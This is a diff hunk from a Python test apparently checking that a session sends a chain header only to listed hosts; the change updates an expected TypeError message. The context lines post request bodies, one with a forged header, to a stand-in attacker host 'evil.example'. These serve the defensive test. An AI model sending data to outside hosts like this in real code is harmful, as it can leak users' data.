@@ -375,7 +375,7 @@ def test_requests_sends_to_listed_hosts_only(
     with pair.task():
         listed = session.post(f"{BASE}/x", data=body)
         session.post("https://evil.example/", data=body, headers={CHAIN.lower(): "forged"})
-        with pytest.raises(TypeError, match="read it first"):
+        with pytest.raises(TypeError, match="read it into bytes"):
             session.post(f"{BASE}/x", data=iter([b"x"]))
         session.post("https://evil.example/", data=iter([b"x"]))
     assert [CHAIN in request.headers for request in seen] == [True, False, False]
